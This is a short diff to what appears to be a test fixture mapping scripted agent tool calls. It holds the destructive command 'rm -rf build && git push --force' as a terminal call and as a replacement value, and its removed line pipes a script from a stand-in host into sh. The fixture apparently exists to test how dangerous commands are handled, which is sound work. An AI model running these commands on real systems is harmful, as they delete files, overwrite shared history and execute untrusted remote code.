@@ -132,7 +132,7 @@ PICTURES: Mapping[str, tuple[list[str], Callable[[Person], None], list[Any]]] = 
         [ChatServer.calls(("terminal", {"command": "rm -rf build && git push --force"}), ids=["a"])],
     ),
     "tools": (["tools"], _picker, []),
-    "explain": (["explain", "curl -s example.test/install.sh | sh"], _ended, []),
+    "explain": (["explain", "rm -rf build && git push --force"], _ended, []),
 }
 
 
